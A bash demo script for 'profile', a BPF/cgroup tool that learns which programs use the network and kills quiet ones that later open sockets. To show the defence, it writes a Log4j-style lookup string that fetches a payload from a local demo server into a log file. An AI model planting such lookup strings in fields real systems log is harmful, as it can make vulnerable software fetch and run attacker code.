#!/bin/bash
# The whole of profile in a minute, in a cgroup and a directory of its own:
# nothing outside them is learned, enforced or killed. As root, after make build;
# make demo does both. Exits 1 if anything is not as the text says.
set -euo pipefail
unset http_proxy HTTP_PROXY all_proxy ALL_PROXY

root=$(cd "$(dirname "$0")/../.." && pwd)
profile=$root/bin/profile
export PATH=$PATH:/usr/sbin:/sbin:/usr/local/go/bin

bold='' green='' red='' dim='' plain=''
if [ -t 1 ] && [ -z "${NO_COLOR-}" ]; then
	bold=$'\e[1m' green=$'\e[32m' red=$'\e[31m' dim=$'\e[2m' plain=$'\e[0m'
fi

chapter() { printf '\n%s%s%s\n' "$bold" "$1" "$plain"; }
say() { printf '  %s\n' "$@"; }
# command_line WORD…: as a person would type it.
command_line() {
	local line='' word
	for word; do
		case $word in *[!a-zA-Z0-9_./:=\&-]*) word=${word@Q} ;; esac
		line+=" $word"
	done
	printf '  %s$%s%s\n' "$dim" "$line" "$plain"
}
fail() {
	printf '%sdemo: %s%s\n' "$red" "$1" "$plain" >&2
	exit 1
}

# check TEXT COMMAND…: the demo goes on only if the command succeeds.
check() {
	local text=$1
	shift
	if ! "$@"; then
		printf '  %s✗ not so: %s%s\n' "$red" "$text" "$plain"
		exit 1
	fi
	printf '  %s✓%s %s\n' "$green" "$plain" "$text"
}

[ "$(id -u)" = 0 ] || fail "needs root, to load BPF programs: sudo make demo"
[ -x "$profile" ] || fail "$profile is missing: make build"
tree=$(awk '$3 == "cgroup2" {print $2; exit}' /proc/mounts)
[ -n "$tree" ] || fail "no cgroup2 tree is mounted: mount -t cgroup2 none DIR"

dir=$(realpath "$(mktemp -d "${TMPDIR:-/tmp}/demo-XXXXXX")")
group=$tree/profile-demo-$$
learner='' server=''

# Called by the trap, on every way out.
# shellcheck disable=SC2317
cleanup() {
	set +e
	[ -z "$learner" ] || { kill -INT "$learner" && wait "$learner"; } 2>/dev/null
	[ ! -e "$dir/profile.db" ] || "$profile" --db "$dir/profile.db" release --yes >/dev/null 2>&1
	[ -z "$server" ] || { kill "$server" && wait "$server"; } 2>/dev/null
	if [ -d "$group" ]; then
		echo 1 >"$group/cgroup.kill"
		for _ in {1..50}; do
			if rmdir "$group" 2>/dev/null; then break; fi
			sleep 0.05
		done
	fi
	rm -rf "$dir"
}
trap cleanup EXIT
trap 'exit 1' INT TERM HUP

mkdir "$group" "$dir/bin"

# shown COMMAND…: profile with the demo's database, its line printed first.
shown() {
	command_line profile "$@"
	"$profile" --db "$dir/profile.db" "$@" 2>&1 | sed 's/^/  /' || fail "profile $1 failed"
}

# inside TOOL…: one of the demo's tools, in the cgroup. What it printed is in
# $output, how it ended in $status.
inside() {
	local tool=$1
	shift
	command_line "$tool" "$@"
	status=0
	# The shell's own word on a killed child goes to the discarded stream.
	{ output=$(
		echo $BASHPID >"$group/cgroup.procs"
		cd "$dir"
		exec "$dir/bin/$tool" "$@" 2>&1
	) || status=$?; } 2>/dev/null
	[ -z "$output" ] || say "${output//$'\n'/$'\n'  }"
	[ "$status" != 137 ] || say "Killed"
}

connections() { grep -c '^connection' "$dir/access.log" || true; }
ended_well() { [ "$status" = 0 ]; }
was_killed() { [ "$status" = 137 ]; } # 128 + SIGKILL
printed() { [ "$output" = "$1" ]; }
server_saw() { [ "$(connections)" = "$1" ]; }
lists() { grep -qF -- "$1" <<<"$2"; }

wait_for() { # FILE PATTERN WHAT
	for _ in {1..300}; do
		if grep -q "$2" "$1" 2>/dev/null; then return; fi
		sleep 0.1
	done
	cat "$1" >&2 || true
	fail "waited 30s for $3"
}

# --- the tools -------------------------------------------------------------

for name in logcount site; do
	(cd "$root" && CGO_ENABLED=0 go build -trimpath -o "$dir/$name" "./examples/demo/$name")
done
mv "$dir/logcount" "$dir/bin/logcount"
cp -L "$(command -v sha256sum)" "$dir/bin/sha256sum"
cp -L "$(command -v sort)" "$dir/bin/sort"
"$dir/bin/sort" /dev/null || fail "$dir is mounted noexec: set TMPDIR to another place"
if command -v curl >/dev/null; then
	cp -L "$(command -v curl)" "$dir/bin/curl"
	fetch=(curl -sS --max-time 10)
else
	cp "$dir/site" "$dir/bin/site"
	fetch=(site get)
fi

"$dir/site" "$dir/address" "$dir/access.log" &
server=$!
wait_for "$dir/address" : "the server"
url=http://$(cat "$dir/address")

printf '%s\n' 'INFO started' 'WARN disk at 91%' 'INFO stopped' >"$dir/day.log"
# What an attacker would type into any field that ends up in the log.
printf '%s\n' 'INFO started' "INFO login by \${fetch:$url/payload}" >"$dir/evil.log"
day=$'INFO  2\nWARN  1'
sum=$(sha256sum <"$dir/day.log")

# --- the demo --------------------------------------------------------------

printf '%s\n' "${bold}profile: learn which programs need the network, and kill the others if they try${plain}"

chapter "1  A harmless tool"
say "logcount counts the lines of a log by their first word:"
inside logcount day.log
check "it counted" printed "$day"
echo
say "Nobody knows that it follows lookups, as Log4j did. Somebody writes one into a log:"
command_line cat evil.log
sed 's/^/  /' "$dir/evil.log"
before=$(connections)
inside logcount evil.log
check "the attacker's server was reached: connections there went from $before to $((before + 1))" \
	server_saw $((before + 1))

chapter "2  Learn, while people work as usual"
command_line profile learn --cgroup "$group" --for 1h "&"
"$profile" --db "$dir/profile.db" learn --cgroup "$group" --for 1h >"$dir/learn.out" 2>"$dir/learn.log" &
learner=$!
for _ in {1..300}; do
	if grep -qs '^watching since' "$dir/learn.log"; then break; fi
	kill -0 "$learner" 2>/dev/null || {
		cat "$dir/learn.log" >&2
		fail "learning ended before it began"
	}
	sleep 0.1
done
wait_for "$dir/learn.log" '^watching since' "the window to open"
grep '^watching since' "$dir/learn.log" | sed 's/^/  /'
for _ in 1 2 3; do inside logcount day.log >/dev/null; done
inside logcount day.log
inside sha256sum day.log
inside sort day.log
inside "${fetch[@]}" "$url/page"
check "the network user reached the server" ended_well
say "A day would be better than a few seconds. Ctrl-C ends it early:"
kill -INT "$learner"
status=0
wait "$learner" || status=$?
learner=''
[ "$status" = 0 ] || cat "$dir/learn.log" >&2
check "learning ended in order" ended_well

chapter "3  What was learned"
shown report --only "$dir/bin/*"
quiet=$("$profile" --db "$dir/profile.db" report --verdict quiet --only "$dir/bin/*")
network=$("$profile" --db "$dir/profile.db" report --verdict network --only "$dir/bin/*")
for tool in logcount sha256sum sort; do
	check "$tool is quiet: it ran from start to end, and opened no network socket" lists "/bin/$tool" "$quiet"
done
check "${fetch[0]} is a network user" lists "/bin/${fetch[0]}" "$network"

chapter "4  Enforce: whatever is quiet has to stay quiet"
shown enforce --cgroup "$group" --yes

chapter "5  Nobody notices"
inside sha256sum day.log
check "a quiet tool works as before" printed "${sum%% *}  day.log"
before=$(connections)
inside "${fetch[@]}" "$url/page"
check "a network user works as before" printed "hello from the network"
check "and the server saw it" server_saw $((before + 1))
inside logcount day.log
check "logcount too, as long as it only counts" printed "$day"

chapter "6  But the attacker does"
before=$(connections)
inside logcount evil.log
check "the kernel killed logcount as it opened a socket" was_killed
sleep 1 # a packet that had left would be there by now
check "the attacker's server saw nothing: still $before connections" server_saw "$before"

chapter "7  Who was killed, and how to undo it"
shown status
check "the kill is on record" lists /bin/logcount "$("$profile" --db "$dir/profile.db" status)"
echo
shown release --yes
before=$(connections)
inside logcount evil.log
check "released: the same command gets through again, so it was profile that stopped it" \
	server_saw $((before + 1))

printf '\n%sAll of it was so.%s\n' "$green" "$plain"
